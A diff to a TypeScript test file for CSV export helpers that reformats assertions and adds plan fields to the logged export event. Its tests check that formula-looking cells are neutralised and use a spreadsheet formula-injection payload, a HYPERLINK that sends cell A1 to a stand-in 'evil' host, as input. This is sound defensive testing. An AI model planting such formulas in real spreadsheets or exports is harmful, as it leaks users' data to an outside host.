@@ -23,7 +23,9 @@ describe("csvFileName", () => {
 
 describe("neutraliseCell", () => {
   it.each(["=", "+", "-", "@", "\t", "\r"])("prefixes a text cell starting with %j with a quote", (first) => {
-    expect(neutraliseCell(`${first}HYPERLINK("http://evil.test/?"&A1,"x")`)).toBe(`'${first}HYPERLINK("http://evil.test/?"&A1,"x")`);
+    expect(neutraliseCell(`${first}HYPERLINK("http://evil.test/?"&A1,"x")`)).toBe(
+      `'${first}HYPERLINK("http://evil.test/?"&A1,"x")`,
+    );
   });
 
   it("leaves other text, numbers and empty cells as they are", () => {
@@ -38,27 +40,32 @@ describe("neutraliseCell", () => {
 describe("csvResponse", () => {
   it("writes formula-looking cells as text", async () => {
     const { auth } = fakeAuth();
-    const pages = [[{ name: '=HYPERLINK("http://evil.test/?"&A1,"x")', email: "+1@x.test" }], [] as { name: string; email: string }[]];
+    const pages = [
+      [{ name: '=HYPERLINK("http://evil.test/?"&A1,"x")', email: "+1@x.test" }],
+      [] as { name: string; email: string }[],
+    ];
     const response = await csvResponse({
       auth,
+      eventContext: { workspace_plan: "PRO", user_plan: "PRO" },
       kind: "team_report",
       fileKind: "team_report",
       header: ["Name", "Email"],
       fetchPage: async () => pages.shift() ?? [],
       toRecord: (row) => [row.name, row.email],
     });
-    const lines = (await response.text()).replace(/^\uFEFF/, "").trim().split("\n");
+    const lines = (await response.text())
+      .replace(/^\uFEFF/, "")
+      .trim()
+      .split("\n");
     expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.test/?""&A1,""x"")",'+1@x.test`);
   });
 
   it("streams every page with escaping, names the file and logs the export", async () => {
     const { auth, calls } = fakeAuth();
-    const pages = [
-      [{ email: "a@x.test", note: 'He said "hi", then left' }],
-      [] as { email: string; note: string }[],
-    ];
+    const pages = [[{ email: "a@x.test", note: 'He said "hi", then left' }], [] as { email: string; note: string }[]];
     const response = await csvResponse({
       auth,
+      eventContext: { workspace_plan: "PRO", user_plan: "PRO" },
       kind: "unsubscription",
       fileKind: "unsubscriptions",
       header: ["Email address", "Note"],
@@ -66,11 +73,21 @@ describe("csvResponse", () => {
       toRecord: (row) => [row.email, row.note],
       now: new Date("2026-11-21T00:00:00Z"),
     });
-    expect(response.headers.get("Content-Disposition")).toBe('attachment; filename="Exported_unsubscriptions_2026-11-21.csv"');
+    expect(response.headers.get("Content-Disposition")).toBe(
+      'attachment; filename="Exported_unsubscriptions_2026-11-21.csv"',
+    );
     expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
     const text = (await response.text()).replace(/^\uFEFF/, "");
     expect(text).toBe('Email address,Note\na@x.test,"He said ""hi"", then left"\n');
-    expect(calls).toEqual([expect.objectContaining({ path: "/events", body: { type: "csv_export", params: { export_type: "unsubscription" } } })]);
+    expect(calls).toEqual([
+      expect.objectContaining({
+        path: "/events",
+        body: {
+          type: "csv_export",
+          params: { export_type: "unsubscription", workspace_plan: "PRO", user_plan: "PRO" },
+        },
+      }),
+    ]);
   });
 
   it("stops at 30,000 rows", async () => {
@@ -78,6 +95,7 @@ describe("csvResponse", () => {
     const windows: { limit: number; limitOffset: number }[] = [];
     const response = await csvResponse({
       auth,
+      eventContext: { workspace_plan: "PRO", user_plan: "PRO" },
       kind: "sent",
       fileKind: "sent",
       header: ["n"],
@@ -97,6 +115,7 @@ describe("csvResponse", () => {
     const { auth, calls } = fakeAuth();
     const response = await csvResponse({
       auth,
+      eventContext: { workspace_plan: "PRO", user_plan: "PRO" },
       kind: "sent",
       fileKind: "sent",
       header: ["n"],
@@ -117,6 +136,7 @@ describe("csvResponse", () => {
     await expect(
       csvResponse({
         auth,
+        eventContext: { workspace_plan: "PRO", user_plan: "PRO" },
         kind: "sent",
         fileKind: "sent",
         header: ["n"],
